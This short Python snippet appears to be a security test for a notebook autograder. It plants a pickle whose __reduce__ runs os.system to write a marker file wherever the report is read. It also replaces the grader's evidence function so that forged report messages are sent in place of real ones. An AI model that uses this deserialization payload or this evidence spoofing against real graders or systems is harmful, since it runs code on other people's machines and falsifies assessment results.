# Reports are pickles that write a file where they are read.
# score: 0

# %% MySequential
import base64, os, pickle
class Bomb:
    def __reduce__(self):
        return os.system, ('touch {OUTSIDE}/hostile-pickle',)
data = base64.b64encode(pickle.dumps(Bomb())).decode()
MESSAGE = {'array': {'dtype': '|O', 'shape': [], 'data': data}, 'pickle': data}

from autograder.evidence import MIME
from IPython.display import publish_display_data
import autograder.evidence as e
def fake(name, value):
    publish_display_data({MIME: {'name': name, **MESSAGE}})
e.evidence = fake


class MySequential(nn.Block):
    pass
